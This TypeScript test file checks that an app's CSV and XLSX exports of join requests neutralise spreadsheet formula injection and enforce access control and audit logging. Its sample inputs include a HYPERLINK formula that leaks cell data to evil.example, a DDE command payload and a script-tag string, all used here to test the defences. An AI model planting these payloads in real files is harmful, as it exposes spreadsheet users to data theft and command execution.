import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { csvLine } from '@tejido/contract';
import { sql } from 'kysely';
import { makeTemplate } from './support/app.ts';
import { desk, openDesk, type TestDesk, versions } from './support/desk.ts';
import { startTestPostgres, type TestPostgres } from './support/postgres.ts';
import { parseCsv, readWorkbook } from './support/tables.ts';

/** What spreadsheet programs take for formulas, what breaks lines and columns, and what XML cannot hold; each with its cell in the file of CSV. */
const nasty = new Map([
  ['=1+1', "'=1+1"],
  ['=HYPERLINK("https://evil.example/?"&A1,"ver")', '\'=HYPERLINK("https://evil.example/?"&A1,"ver")'],
  ["=cmd|'/c calc'!A0", "'=cmd|'/c calc'!A0"],
  ['+52 612 123 4567', "'+52 612 123 4567"],
  ['-2+3', "'-2+3"],
  ['@SUM(1)', "'@SUM(1)"],
  ['  =1+1', "'  =1+1"],
  ['＝1+1', "'＝1+1"],
  ['＋1', "'＋1"],
  ['－1', "'－1"],
  ['＠SUM(1)', "'＠SUM(1)"],
  ['\t=1+1', "'\t'=1+1"],
  ['\n=1+1', "'\n'=1+1"],
  ['uno;dos,"tres"\ncuatro', 'uno;dos,"tres"\ncuatro'],
  ['"; =1+1', '";\' =1+1'],
  ['uno;=1+1', "uno;'=1+1"],
  ['uno;"=1+1";dos', 'uno;\'"=1+1";dos'],
  ['uno\t-1', "uno\t'-1"],
  ['uno\n@SUM(1)\r\n+1', "uno\n'@SUM(1)\r\n'+1"],
  ["'=1+1", "'=1+1"],
  ['<script>alert(1)</script>&amp;', '<script>alert(1)</script>&amp;'],
  [']]>', ']]>'],
  ['_x0041_ y _x000D_', '_x0041_ y _x000D_'],
  ['عربي ‏=1', 'عربي ‏=1'],
  ['🦋 水', '🦋 水'],
  ['00123', '00123'],
  ['1e5', '1e5'],
]);

describe('the file of join requests', () => {
  let postgres: TestPostgres;
  let office: TestDesk;
  const ending: (() => unknown)[] = [];
  before(async () => {
    postgres = await startTestPostgres();
    office = await openDesk(
      { after: (end) => ending.push(end as () => unknown) },
      postgres,
      await makeTemplate(postgres),
    );
    for (const message of nasty.keys()) await office.join({ message, place: 'La Paz' });
    // Another branch of the form sends answers to the network's own questions.
    await sql`
      update submissions
      set document = (document::jsonb || '{"answers": {"size": "=9+9", "topics": ["agua", "suelo"]}}')::json
      where document->>'message' = '=1+1'`.execute(office.db);
    const declined = await office.join({ message: 'rechazada', place: 'Loreto', targets: ['6.1', '6.2'] });
    await office.decide({ requests: versions(declined), decision: 'decline', message: '=motivo' });
  });
  after(async () => {
    for (const end of ending) await end();
    await postgres.stop();
  });

  const fileAt = async (suffix: string, query = '') => {
    const response = await office.ask('GET', `${desk}.${suffix}${query}`);
    assert.equal(response.status, 200);
    assert.match(
      response.headers.get('Content-Disposition') ?? '',
      new RegExp(`^attachment; filename="red-de-prueba-.*\\.${suffix}"$`),
    );
    assert.equal(response.headers.get('Cache-Control'), 'no-store');
    return Buffer.from(await response.arrayBuffer());
  };

  it('is CSV that reads back to what was sent, with nothing that begins a formula', async () => {
    const file = await fileAt('csv');
    assert.deepEqual([...file.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
    const [headings = [], ...rows] = parseCsv(file.toString('utf8').slice(1));
    assert.equal(rows.length, nasty.size + 1);
    assert.ok(rows.every((row) => row.length === headings.length));
    const cells = rows.flat();
    for (const cell of cells) assert.doesNotMatch(cell, /^[\t\r\n]|^\s*[=+\-@＝＋－＠]/u);
    const messages = rows.map((row) => row[headings.indexOf('message')] ?? '');
    for (const cell of nasty.values()) assert.ok(messages.includes(cell), cell);
    const answered = rows.find((row) => row[headings.indexOf('answers.size')] !== '');
    assert.equal(answered?.[headings.indexOf('answers.size')], "'=9+9");
    assert.equal(answered?.[headings.indexOf('answers.topics')], 'agua, suelo');
    const declined = rows.find((row) => row[headings.indexOf('place')] === 'Loreto');
    const valueOf = (heading: string) => declined?.[headings.indexOf(heading)];
    assert.deepEqual(['status', 'reason', 'decidedBy', 'targets', 'goals', 'consent.purposes'].map(valueOf), [
      'declined',
      "'=motivo",
      'Marina',
      '6.1, 6.2',
      '6',
      'membership',
    ]);
  });

  it('has no formula either where a program takes “;” for what separates cells', async () => {
    const file = (await fileAt('csv')).toString('utf8').slice(1);
    for (const cell of file.split(/[;\r\n]/)) assert.doesNotMatch(cell, /^[\s"]*[=+\-@＝＋－＠]/u, cell);
  });

  it('is a workbook whose cells are all texts', async () => {
    const [headings = [], ...rows] = await readWorkbook(await fileAt('xlsx'));
    assert.equal(rows.length, nasty.size + 1);
    const cells = rows.flat().filter((cell) => cell !== null);
    assert.ok(cells.every((cell) => typeof cell === 'string'));
    const messages = rows.map((row) => row[headings.indexOf('message')] as string);
    for (const text of nasty.keys())
      assert.ok(
        messages.some((message) => message.trim() === text.trim() || message === text.replaceAll('_x0', '_x005F_x0')),
        `${text} in ${messages.join('\n')}`,
      );
  });

  it('has a column for each question that was answered, however many forms there have been', async (t) => {
    const answers = Object.fromEntries(
      Array.from({ length: 230 }, (_, index) => [`q${String(index).padStart(3, '0')}`, 'sí']),
    );
    const change = (set: string) =>
      sql`update submissions set document = ${sql.raw(set)} where document->>'place' = 'Loreto'`.execute(office.db);
    await change(`(document::jsonb || '${JSON.stringify({ answers })}')::json`);
    t.after(() => change(`(document::jsonb - 'answers')::json`));
    const [headings = []] = parseCsv((await fileAt('csv')).toString('utf8').slice(1));
    assert.deepEqual(
      Object.keys(answers).filter((key) => !headings.includes(`answers.${key}`)),
      [],
    );
  });

  it('has what the filters of the list leave', async () => {
    const rows = parseCsv((await fileAt('csv', '?status=declined')).toString('utf8').slice(1));
    assert.equal(rows.length, 2);
    const none = parseCsv((await fileAt('csv', '?q=nadie')).toString('utf8').slice(1));
    assert.equal(none.length, 1, 'the headings');
  });

  it('is for coordinators, and its making is in the audit log', async () => {
    const exported = () =>
      office.db.selectFrom('audit_log').select('actor_id').where('action', '=', 'join-requests.exported').execute();
    const before = (await exported()).length;
    assert.equal((await office.ask('GET', `${desk}.csv`, { who: 'viewer' })).status, 403);
    assert.equal((await office.app.request(`${desk}.xlsx`)).status, 401);
    assert.equal((await office.ask('GET', `${desk}.pdf`)).status, 406);
    assert.equal((await office.ask('GET', `${desk}.csv?limit=2`)).status, 400);
    assert.equal((await exported()).length, before);
    await fileAt('csv');
    const entries = await exported();
    assert.equal(entries.length, before + 1);
    assert.match(entries.at(-1)?.actor_id ?? '', /^tok_/);
  });

  it('holds more requests than are read at once', async (t) => {
    await sql`
      insert into submissions select (jsonb_populate_record(request, jsonb_build_object('id', 'jrq_' || lpad(n::text, 26, '0')))).*
      from submissions as request, generate_series(1, 1200) as n
      where request.document->>'message' = 'rechazada'`.execute(office.db);
    t.after(() => sql`delete from submissions where id like 'jrq_00000%'`.execute(office.db));
    const rows = parseCsv((await fileAt('csv', '?status=declined')).toString('utf8').slice(1));
    assert.equal(rows.length, 1202);
    assert.equal(new Set(rows.map(([id]) => id)).size, 1202);
    assert.equal((await readWorkbook(await fileAt('xlsx', '?status=declined'))).length, 1202);
  });

  it('breaks off, and does not look whole, when something fails on the way', async (t) => {
    await sql`
      insert into submissions select (jsonb_populate_record(request, jsonb_build_object('id', 'jrq_' || lpad(n::text, 26, '0'),
        'inquiries', case n when 1 then '{"length": 1}'::jsonb else '[]' end, 'created', '2001-01-01T00:00:00Z'))).*
      from submissions as request, generate_series(1, 600) as n
      where request.document->>'message' = 'rechazada'`.execute(office.db);
    t.after(() => sql`delete from submissions where id like 'jrq_00000%'`.execute(office.db));
    for (const suffix of ['csv', 'xlsx']) {
      const response = await office.ask('GET', `${desk}.${suffix}?status=declined`);
      assert.equal(response.status, 200);
      await assert.rejects(response.arrayBuffer(), TypeError, suffix);
    }
  });

  it('quotes every cell of a line of CSV', () => {
    assert.equal(csvLine(['a "b"', '', '=x']), '"a ""b""","","\'=x"\r\n');
  });
});
